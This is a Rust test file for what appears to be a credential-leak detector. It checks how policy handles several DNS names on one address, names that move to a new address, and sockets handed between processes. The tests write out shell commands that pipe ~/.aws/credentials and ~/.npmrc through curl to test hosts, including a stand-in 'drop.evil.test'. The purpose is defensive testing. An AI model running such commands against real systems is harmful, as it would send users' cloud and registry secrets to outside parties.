//! Several names on one address, and names that move.
//!
//! Who connects to an address may say any name there, so what an address accepts is what all its names accept together: two names
//! on one address are one destination. What a name gains by that is no more than what another one may have there anyway.

use detector::engine::Verdict;
use detector_tests::{
    fixture::binary,
    giver::Giver,
    name_server::{
        NameServer, Zone,
        message::{Message, Record, kind},
    },
    namespace::{OTHER_V4, SINK_V4},
    scene::{PORT, Scene},
    spent::{arrived, leaks, learned, policy, run, send, send_with},
};
use std::{
    net::IpAddr,
    sync::atomic::{AtomicU32, Ordering},
};

type Result = anyhow::Result<()>;

const GOOD: &str = "api.good.test";
const MIRROR: &str = "mirror.good.test";
const EVIL: &str = "drop.evil.test";
const KEY: &str = ".aws/credentials";
const TOKEN: &str = ".npmrc";

/// Asks for a name without holding anything.
fn look(name: &str) -> String {
    format!("getent ahostsv4 {name} > /dev/null || true\n")
}

/// The address by its number, before and after a name that accepts the key was answered with it.
#[test]
fn an_address_accepts_what_its_names_accept_together() -> Result {
    let scene = Scene::new()?;
    let server = NameServer::start(&scene.network.sink, Zone::new().a(GOOD, [SINK_V4]).a(EVIL, [SINK_V4]))?;
    let (number, as_evil) = (SINK_V4.to_string(), format!("--resolve {EVIL}:{PORT}:{SINK_V4}"));
    // A name that policy does not know gives its address nothing.
    let before = [look(EVIL), send(KEY, &number)].concat();
    // Nor does it take anything. Then it is the address that counts, whatever name is said to it.
    let after = [look(GOOD), send(KEY, &number), send_with(KEY, EVIL, &as_evil)].concat();
    // The question for it is a send of its own.
    let by_name = send(KEY, EVIL);
    let run = run(&scene, "enforce", &policy(&[(GOOD, "aws")]), &[before, after, by_name].concat())?;
    assert_eq!(arrived(&scene, "aws"), [SINK_V4, SINK_V4], "{:#?}", run.conclusion.findings);
    assert_eq!(server.asked(EVIL), 1, "the holder's own question was let through");
    assert_eq!(leaks(&run).len(), 2, "{:#?}", run.conclusion.findings);
    assert_eq!(run.conclusion.verdict, Verdict::Fail);
    Ok(())
}

#[test]
fn two_names_with_a_class_each() -> Result {
    let scene = Scene::new()?;
    let zone = Zone::new().a(GOOD, [OTHER_V4]).a(MIRROR, [OTHER_V4]);
    let server = NameServer::start(&scene.network.sink, zone)?;
    let number = OTHER_V4.to_string();
    let both = format!(
        "cat ~/{KEY} ~/{TOKEN} | curl -s --max-time 5 -o /dev/null --data-binary @- http://{number}:{PORT}/x || true\n"
    );
    let script = [
        send(KEY, GOOD),
        // The other class is not accepted there yet: not by number, and not by a name that is not its own.
        send(TOKEN, &number),
        send(TOKEN, GOOD),
        both.clone(),
        send(TOKEN, MIRROR),
        both,
    ];
    let policy = policy(&[(GOOD, "aws"), (MIRROR, "npm")]);
    let run = run(&scene, "enforce", &policy, &script.concat())?;
    // Once alone, and once with the other, when the address had both names.
    for class in ["aws", "npm"] {
        assert_eq!(arrived(&scene, class), [OTHER_V4, OTHER_V4], "{class}: {:#?}", run.conclusion.findings);
    }
    assert_eq!(scene.sink.connections().len(), 3);
    assert_eq!(server.questions().iter().filter(|question| question.kind == kind::A).count(), 2);
    Ok(())
}

/// A thief's name that leads to the good address as well gains its own address nothing.
#[test]
fn a_name_that_leads_to_a_good_address_gains_nothing() -> Result {
    for mode in ["enforce", "audit"] {
        let scene = Scene::new()?;
        let zone = Zone::new().a(GOOD, [SINK_V4]).a(EVIL, [SINK_V4, OTHER_V4]);
        let _server = NameServer::start(&scene.network.sink, zone)?;
        let script = [look(GOOD), look(EVIL), send(KEY, &OTHER_V4.to_string()), send(KEY, GOOD)].concat();
        let run = run(&scene, mode, &policy(&[(GOOD, "aws")]), &script)?;
        let expected: &[IpAddr] = if mode == "audit" { &[OTHER_V4, SINK_V4] } else { &[SINK_V4] };
        assert_eq!(arrived(&scene, "aws"), expected, "{mode}");
        assert_eq!(leaks(&run).len(), 1, "{mode}: {:#?}", run.conclusion.findings);
    }
    Ok(())
}

/// A name that moves takes along what may be spent there, and its old address keeps it: a connection there may be older.
#[test]
fn a_name_that_moves_works_at_both_addresses() -> Result {
    let scene = Scene::new()?;
    let asked = AtomicU32::new(0);
    let moving = move |question: &[u8]| {
        let Some(mut reply) = Message::reply_to(question) else { return Vec::new() };
        let query = reply.questions[0].clone();
        if query.kind == kind::A {
            let to = if asked.fetch_add(1, Ordering::Relaxed) == 0 { SINK_V4 } else { OTHER_V4 };
            reply.answers.push(Record::address(query.name, to));
        }
        vec![reply.write()]
    };
    let _server = NameServer::start(&scene.network.sink, Zone::new().raw(GOOD, moving))?;
    let script = [send(KEY, GOOD), send(KEY, &OTHER_V4.to_string()), send(KEY, GOOD), send(KEY, &SINK_V4.to_string())];
    let run = run(&scene, "enforce", &policy(&[(GOOD, "aws")]), &script.concat())?;
    assert_eq!(arrived(&scene, "aws"), [SINK_V4, OTHER_V4, SINK_V4], "{:#?}", run.conclusion.findings);
    assert_eq!(leaks(&run).len(), 1, "its new address, before anybody was told of it");
    Ok(())
}

/// A socket of another process of the job is as good as one's own: the question binds the answer, not who reads it.
#[test]
fn a_socket_that_another_process_made() -> Result {
    let scene = Scene::new()?;
    let _server = NameServer::start(&scene.network.sink, Zone::new().a(GOOD, [SINK_V4]).a(EVIL, [OTHER_V4]))?;
    let fixture = binary("fixture")?;
    let ask = |name: &str| format!("'{}' ask-by-child {SINK_V4} {name}\n", fixture.display());
    let script = [ask(GOOD), ask(EVIL), send(KEY, &SINK_V4.to_string()), send(KEY, &OTHER_V4.to_string())].concat();
    let run = run(&scene, "enforce", &policy(&[(GOOD, "aws")]), &script)?;
    assert_eq!(run.outcome.code(), Some(100), "{}", String::from_utf8_lossy(&run.outcome.stderr));
    assert!(
        learned(&run).contains(&(GOOD, SINK_V4)) && learned(&run).contains(&(EVIL, OTHER_V4)),
        "{:?}",
        learned(&run)
    );
    assert_eq!(arrived(&scene, "aws"), [SINK_V4], "{:#?}", run.conclusion.findings);
    Ok(())
}

/// A socket that was connected before, outside the job: who asks on it is judged all the same, and learns nothing.
#[test]
fn a_socket_from_outside_the_job() -> Result {
    let scene = Scene::new()?;
    let server = NameServer::start(&scene.network.sink, Zone::new().a(GOOD, [SINK_V4]).a(EVIL, [SINK_V4]))?;
    let place = scene.home.tmp().join("handed");
    let _giver = Giver::start(&scene.network.job, &place, (SINK_V4, 53).into())?;
    let ask = |name: &str, file: &str| {
        format!(
            "'{}' ask-on {} {name} {file} || true\n",
            binary("fixture").unwrap_or_default().display(),
            place.display()
        )
    };
    let script = [
        ask(GOOD, ""),
        ask(GOOD, &format!("~/{KEY}")),
        ask(EVIL, &format!("~/{KEY}")),
        send(KEY, &SINK_V4.to_string()),
    ];
    let run = run(&scene, "enforce", &policy(&[(GOOD, "aws")]), &script.concat())?;
    assert_eq!((server.asked(GOOD), server.asked(EVIL)), (2, 0));
    assert!(learned(&run).is_empty() && arrived(&scene, "aws").is_empty(), "{:?}", learned(&run));
    Ok(())
}
